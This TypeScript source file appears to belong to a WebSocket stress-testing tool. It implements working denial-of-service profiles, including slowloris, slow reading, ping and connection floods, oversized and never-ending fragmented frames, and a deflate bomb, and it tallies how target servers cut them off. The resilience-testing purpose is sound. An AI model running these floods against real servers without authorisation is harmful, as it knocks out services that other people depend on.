/**
 * Hostile profiles of the swarm's client: the same pool, slots and shared handlers as the healthy profiles
 * (client/profiles.ts), so thousands of attackers cost what thousands of idle connections cost. Per-slot state is a
 * typed array (a byte offset, a read credit), the bytes written come from buffers built once per profile, and each
 * profile runs one timer for all its slots: no object, closure or timer per attacker.
 *
 * What an attacker does (defaults in client/options.ts):
 * - `slowloris`: TCP, then the upgrade request `--dribble-bytes` at a time every `--dribble-interval`; after the
 *   request's last header it goes on with `X-Dribble: x` header lines, so the request never ends.
 * - `slow-reader`: upgrades, sends its command (`fill 1048576`) every `--interval` and reads `--read-rate` bytes/s
 *   (0: the socket is paused after the 101, the kernel's receive window fills and closes). With reads paused the
 *   server's end is noticed by the next command's write (an RST or EPIPE: `reset`).
 * - `slow-frame`: a 125-byte text frame's header, then its payload one byte per `--dribble-interval`.
 * - `no-pong`: upgrades and never answers the server's pings (the pool is told not to).
 * - `ping-flood`: up to FLOOD_BATCH empty pings per connection every FLOOD_TICK_MS, while less than FLOOD_QUEUE
 *   bytes wait in libuv for that socket, and at most FLOOD_PER_TICK pings per worker per tick.
 * - `oversize`: one binary frame header declaring `--declared-size` bytes (1 GiB: above any `--max-payload`), and
 *   a few payload bytes.
 * - `garbage`: GARBAGE_BYTES random bytes after the 101, the first with RSV1–3 set so every server sees a protocol
 *   violation at once (a random first byte could also be a valid header declaring a long frame, which a server
 *   would simply wait for).
 * - `conn-flood`: upgrades and drops the connection at once (RST), as fast as `--rate` and `--max-pending` allow.
 * - `fragment-pin`: starts a binary message (FIN = 0) and continues it with `--fragment-bytes` fragments (1 byte:
 *   7 bytes on the wire each), never finishing it, as fast as ping-flood sends pings (same queue and per-tick caps).
 *   A server that keeps each fragment as an object pays far more than the bytes (ws #2331: ≈0.87 MB on the wire
 *   pinned ≈13.5 MB of heap); one that appends them to one buffer pays the bytes, up to its payload cap.
 * - `deflate-bomb`: offers permessage-deflate in its upgrade and sends one compressed binary message (RSV1) of
 *   `--inflated-size` zeros (16 MiB: ≈16 KiB on the wire). A server that negotiated it must stop inflating at its
 *   payload cap (1009); one that did not must fail the RSV1 frame (1002). Built once per worker.
 *
 * How each ended is counted by outcome (metrics/swarm.ts ATTACK_OUTCOMES), close code, and time from connect() to
 * the cut, in an {@link AttackTally}.
 */
import { randomFillSync } from 'node:crypto';
import { constants as zlib, deflateRawSync } from 'node:zlib';
import { ATTACK_CLOSE_CODES, ATTACK_OUTCOMES, type AttackOutcome } from '../metrics/swarm.js';
import { OP_BINARY, OP_CONTINUATION, OP_PING, OP_TEXT, RSV1, encodeFrame } from './codec.js';
import type { AttackEnd } from './pool.js';
import type { AttackOptions, AttackProfile, SwarmCommand, SwarmSpeech, SwarmTarget } from './options.js';
import { Traffic, latencyHistogram, templateFrame, type Profile } from './profiles.js';
import { Renderer } from './template.js';

const FLOOD_TICK_MS = 10;
const FLOOD_BATCH = 16;
const FLOOD_QUEUE = 16 * 1024;
const FLOOD_PER_TICK = 20_000;
const GARBAGE_BYTES = 256;
const OVERSIZE_PAYLOAD_SENT = 16;
/** fragment-pin: continuation frames per write (1.7 KiB at 1 byte each), under ping-flood's queue and per-tick caps. */
const FRAGMENT_BATCH = 256;
/** slow-frame's frame: a valid `echo` command of 125 bytes (7-bit length), so a server that waits gets a request. */
const SLOW_FRAME_LENGTH = 125;
/** slow-reader: read credit is refilled this often. */
const READ_TICK_MS = 100;

/** The slice of the pool an attack uses. */
export interface AttackPool {
  send(slot: number, frame: Buffer): boolean;
  sendRaw(slot: number, bytes: Buffer): boolean;
  isOpen(slot: number): boolean;
  isDribbling(slot: number): boolean;
  queued(slot: number): number;
  pauseReading(slot: number): void;
  resumeReading(slot: number): void;
  drop(slot: number): void;
  targetOf(slot: number): number;
  readonly slotsUsed: number;
}

/** What became of one worker's attackers. `held` is read from the pool, the rest are counted here. */
export class AttackTally {
  readonly outcomes = new Float64Array(ATTACK_OUTCOMES.length);
  readonly closeCodes = new Float64Array(ATTACK_CLOSE_CODES.length);
  /** Microseconds from connect() to the cut (closed, ended, reset, rejected). */
  readonly timeToCut = latencyHistogram();
  bytesSent = 0;
  bytesReceived = 0;
  onCut: ((seconds: number) => void) | undefined;

  count(outcome: AttackOutcome, code = 0, ageMs = 0): void {
    this.outcomes[ATTACK_OUTCOMES.indexOf(outcome)]++;
    if (outcome === 'closed') {
      const i = ATTACK_CLOSE_CODES.indexOf(String(code) as never);
      this.closeCodes[i < 0 ? ATTACK_CLOSE_CODES.length - 1 : i]++;
    }
    if (outcome !== 'failed' && outcome !== 'dropped') {
      this.timeToCut.recordValue(Math.max(1, Math.round(ageMs * 1000)));
      this.onCut?.(ageMs / 1000);
    }
  }
}

export interface AttackSettings {
  readonly profile: AttackProfile;
  readonly attack: AttackOptions;
  readonly intervalMs: number;
  /** slow-reader's command. */
  readonly command: SwarmCommand;
  readonly targets: readonly SwarmTarget[];
  /** `--reader-send` (slow-reader) and `--send` (slow-frame): the user's request instead of our protocol's. */
  readonly speech: SwarmSpeech;
  readonly firstIndex: number;
}

/** A hostile profile: a {@link Profile} that also hears the attack hooks of the pool. */
export abstract class Attack implements Profile {
  readonly traffic = new Traffic();
  readonly tally = new AttackTally();
  private timer: NodeJS.Timeout | undefined;
  protected stopped = false;

  constructor(protected readonly pool: AttackPool, protected readonly s: AttackSettings) {}

  opened(_slot: number): void {}
  dribbling(_slot: number): void {}
  read(_slot: number, bytes: number): void { this.tally.bytesReceived += bytes; }
  message(): void { this.traffic.received++; }
  pong(): void { this.traffic.pongsReceived++; }
  ended(_slot: number, how: AttackEnd, code: number, ageMs: number): void { this.tally.count(how, code, ageMs); }
  stop(): void {
    this.stopped = true;
    if (this.timer !== undefined) clearInterval(this.timer);
    this.timer = undefined;
  }

  /** One timer for every slot of the profile, started by the first slot that needs it. */
  protected every(ms: number): void {
    if (this.timer === undefined && !this.stopped) this.timer = setInterval(tickAttack, ms, this);
  }
  abstract tick(): void;

  protected write(slot: number, bytes: Buffer, raw = true): boolean {
    if (!(raw ? this.pool.sendRaw(slot, bytes) : this.pool.send(slot, bytes))) return false;
    this.tally.bytesSent += bytes.length;
    return true;
  }

  private floodCursor = 0;
  /**
   * One flood tick: `batch` (`frames` frames) to each open slot with less than FLOOD_QUEUE bytes waiting in libuv, at
   * most FLOOD_PER_TICK frames per worker, round-robin from where the last tick stopped so that the cap does not
   * starve the last slots. Returns the frames written.
   */
  protected flood(batch: Buffer, frames: number, raw: boolean): number {
    const used = this.pool.slotsUsed;
    let written = 0;
    for (let k = 0; k < used && written < FLOOD_PER_TICK; k++) {
      const slot = (this.floodCursor + k) % used;
      if (!this.pool.isOpen(slot) || this.pool.queued(slot) >= FLOOD_QUEUE) continue;
      if (this.write(slot, batch, raw)) written += frames;
    }
    this.floodCursor = used > 0 ? (this.floodCursor + 1) % used : 0;
    return written;
  }
}

function tickAttack(a: Attack): void {
  a.tick();
}

/** The upgrade request, dribbled: its head without the blank line that would end it, then header lines forever. */
class Slowloris extends Attack {
  private readonly heads: Buffer[];
  private static readonly FILLER = Buffer.from('X-Dribble: x\r\n', 'latin1');
  /** Bytes of the endless request already sent, per slot. */
  private readonly offset: Float64Array;

  constructor(pool: AttackPool, s: AttackSettings, capacity: number) {
    super(pool, s);
    // Any well-formed key: the server never gets to answer it.
    this.heads = s.targets.map((t) => Buffer.from(`GET ${t.path} HTTP/1.1\r\nHost: ${t.host}\r\nUpgrade: websocket\r\n` +
      'Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n', 'latin1'));
    this.offset = new Float64Array(capacity);
  }

  override dribbling(slot: number): void {
    this.dribble(slot);
    this.every(this.s.attack.dribbleIntervalMs);
  }

  tick(): void {
    for (let slot = 0; slot < this.pool.slotsUsed; slot++) if (this.pool.isDribbling(slot)) this.dribble(slot);
  }

  private dribble(slot: number): void {
    const head = this.heads[this.pool.targetOf(slot)];
    const f = Slowloris.FILLER;
    const n = this.s.attack.dribbleBytes;
    const out = Buffer.allocUnsafe(n);
    let at = this.offset[slot];
    for (let i = 0; i < n; i++, at++) out[i] = at < head.length ? head[at] : f[(at - head.length) % f.length];
    if (this.write(slot, out)) this.offset[slot] = at;
  }
}

/** Asks for large replies and reads them at --read-rate bytes/s (0: never). */
class SlowReader extends Attack {
  private readonly wire: Buffer;
  /** `--reader-send`: the user's request for a large reply; message numbers count per worker. */
  private readonly renderer: Renderer | undefined;
  private readonly credit: Float64Array;
  private readonly paused: Uint8Array;
  private readonly perTick: number;
  private sinceCommand = 0;
  private seq = 0;

  constructor(pool: AttackPool, s: AttackSettings, capacity: number) {
    super(pool, s);
    this.wire = Buffer.from(s.command.wire, 'latin1');
    this.renderer = s.speech.readerSend ? new Renderer(s.speech.readerSend, s.speech.total, s.speech.vars) : undefined;
    this.credit = new Float64Array(capacity);
    this.paused = new Uint8Array(capacity);
    this.perTick = s.attack.readRate * READ_TICK_MS / 1000;
  }

  override opened(slot: number): void {
    if (this.s.attack.readRate === 0) {
      this.pool.pauseReading(slot);
      this.paused[slot] = 1;
    }
    this.command(slot);
    this.every(Math.min(READ_TICK_MS, this.s.intervalMs));
  }

  override read(slot: number, bytes: number): void {
    super.read(slot, bytes);
    if ((this.credit[slot] -= bytes) < 0 && this.paused[slot] === 0) {
      this.pool.pauseReading(slot);
      this.paused[slot] = 1;
    }
  }

  tick(): void {
    const tickMs = Math.min(READ_TICK_MS, this.s.intervalMs);
    this.sinceCommand += tickMs;
    const due = this.sinceCommand >= this.s.intervalMs;
    if (due) this.sinceCommand = 0;
    for (let slot = 0; slot < this.pool.slotsUsed; slot++) {
      if (!this.pool.isOpen(slot)) continue;
      if (due) this.command(slot);
      if (this.perTick === 0) continue;
      // credit refills at the read rate and never banks more than one tick's worth
      this.credit[slot] = Math.min(this.perTick, this.credit[slot] + this.perTick * tickMs / READ_TICK_MS);
      if (this.credit[slot] > 0 && this.paused[slot] === 1) {
        this.paused[slot] = 0;
        this.pool.resumeReading(slot);
      }
    }
  }

  private command(slot: number): void {
    if (this.renderer) {
      if (this.write(slot, templateFrame(this.renderer, this.s.firstIndex + slot, this.seq++), false)) this.traffic.sent++;
      return;
    }
    const id = String(this.seq++);
    if (this.write(slot, encodeFrame(OP_TEXT, Buffer.concat([Buffer.from(id, 'latin1'), this.wire])), false)) this.traffic.sent++;
  }
}

/**
 * One frame: the header at once, then the payload a byte per --dribble-interval; then the next frame. The payload
 * is our `echo` command, or with `--send` the user's message (of connection 0, message 0: rendered once, every
 * slot sends the same bytes), so a foreign server waits for a request it would answer.
 */
class SlowFrame extends Attack {
  private readonly frame: Buffer;
  private readonly offset: Float64Array;
  private readonly headerLength: number;

  constructor(pool: AttackPool, s: AttackSettings, capacity: number) {
    super(pool, s);
    const send = s.speech.send;
    let payload = Buffer.alloc(SLOW_FRAME_LENGTH, 0x78);
    if (send) payload = Buffer.from(new Renderer(send, s.speech.total, s.speech.vars).text(0, 0), send.binary ? 'latin1' : 'utf8');
    else payload.write('0 echo ', 'latin1');
    this.frame = encodeFrame(send?.binary ? OP_BINARY : OP_TEXT, payload); // built once: every slot sends the same bytes
    this.headerLength = this.frame.length - payload.length;
    this.offset = new Float64Array(capacity);
  }

  override opened(slot: number): void {
    if (this.write(slot, this.frame.subarray(0, this.headerLength))) this.offset[slot] = this.headerLength;
    this.every(this.s.attack.dribbleIntervalMs);
  }

  tick(): void {
    for (let slot = 0; slot < this.pool.slotsUsed; slot++) {
      if (!this.pool.isOpen(slot)) continue;
      const at = this.offset[slot];
      const bytes = at === 0 ? this.frame.subarray(0, this.headerLength) : this.frame.subarray(at, at + 1);
      if (this.write(slot, bytes)) this.offset[slot] = at + bytes.length === this.frame.length ? 0 : at + bytes.length;
    }
  }
}

/** Nothing at all: the pool does not answer pings for this profile. */
class NoPong extends Attack {
  tick(): void {}
}

class PingFlood extends Attack {
  private readonly batch: Buffer;

  constructor(pool: AttackPool, s: AttackSettings) {
    super(pool, s);
    this.batch = Buffer.concat(Array.from({ length: FLOOD_BATCH }, () => encodeFrame(OP_PING)));
  }

  override opened(): void { this.every(FLOOD_TICK_MS); }

  tick(): void { this.traffic.pingsSent += this.flood(this.batch, FLOOD_BATCH, false); }
}

/** A frame header declaring more than any --max-payload, and the first few payload bytes. */
class Oversize extends Attack {
  private readonly head: Buffer;

  constructor(pool: AttackPool, s: AttackSettings) {
    super(pool, s);
    const len = s.attack.declaredBytes;
    const h = Buffer.alloc(14 + OVERSIZE_PAYLOAD_SENT); // zero mask: valid, and the payload goes out as zeros
    h[0] = 0x80 | OP_BINARY;
    h[1] = 0x80 | 127;
    h.writeUInt32BE(Math.floor(len / 2 ** 32), 2);
    h.writeUInt32BE(len >>> 0, 6);
    this.head = h;
  }

  override opened(slot: number): void { this.write(slot, this.head); }
  tick(): void {}
}

class Garbage extends Attack {
  override opened(slot: number): void {
    const junk = randomFillSync(Buffer.allocUnsafe(GARBAGE_BYTES));
    junk[0] |= 0x70; // RSV1–3: no extension was negotiated, so this is a protocol error wherever the header is read
    this.write(slot, junk);
  }
  tick(): void {}
}

class ConnFlood extends Attack {
  override opened(slot: number): void {
    this.pool.drop(slot);
    this.tally.count('dropped');
  }
  tick(): void {}
}

/**
 * A message that never ends: its first fragment at the upgrade, then continuation fragments (FIN = 0) from one
 * prebuilt batch, written while less than FLOOD_QUEUE bytes wait in libuv for that socket, round-robin under a
 * worker-wide cap per tick. The frames are masked with a zero key (valid; the payload goes out as zeros).
 */
class FragmentPin extends Attack {
  private readonly first: Buffer;
  private readonly batch: Buffer;

  constructor(pool: AttackPool, s: AttackSettings) {
    super(pool, s);
    const n = s.attack.fragmentBytes;
    const frame = (op: number): Buffer => {
      const f = Buffer.alloc(6 + n); // FIN = 0, masked, 7-bit length, zero mask, zero payload
      f[0] = op;
      f[1] = 0x80 | n;
      return f;
    };
    this.first = frame(OP_BINARY);
    this.batch = Buffer.concat(Array.from({ length: FRAGMENT_BATCH }, () => frame(OP_CONTINUATION)));
  }

  override opened(slot: number): void {
    if (this.write(slot, this.first)) this.traffic.sent++;
    this.every(FLOOD_TICK_MS);
  }

  tick(): void { this.traffic.sent += this.flood(this.batch, FRAGMENT_BATCH, true); }
}

/** One compressed message of --inflated-size zeros, the same bytes for every slot. */
class DeflateBomb extends Attack {
  private readonly bomb: Buffer;

  constructor(pool: AttackPool, s: AttackSettings) {
    super(pool, s);
    // RFC 7692 §7.2.1: a sync flush ends in 00 00 ff ff, which the sender strips and the receiver puts back
    const z = deflateRawSync(Buffer.alloc(s.attack.inflatedBytes), { level: 9, finishFlush: zlib.Z_SYNC_FLUSH });
    this.bomb = encodeFrame(OP_BINARY, z, 0, z.length - 4);
    this.bomb[0] |= RSV1;
  }

  override opened(slot: number): void {
    if (this.write(slot, this.bomb)) this.traffic.sent++;
  }
  tick(): void {}
}

/** The attack object for a worker's slots. */
export function createAttack(s: AttackSettings, pool: AttackPool, capacity: number): Attack {
  switch (s.profile) {
    case 'slowloris': return new Slowloris(pool, s, capacity);
    case 'slow-reader': return new SlowReader(pool, s, capacity);
    case 'slow-frame': return new SlowFrame(pool, s, capacity);
    case 'no-pong': return new NoPong(pool, s);
    case 'ping-flood': return new PingFlood(pool, s);
    case 'oversize': return new Oversize(pool, s);
    case 'garbage': return new Garbage(pool, s);
    case 'conn-flood': return new ConnFlood(pool, s);
    case 'fragment-pin': return new FragmentPin(pool, s);
    case 'deflate-bomb': return new DeflateBomb(pool, s);
  }
}
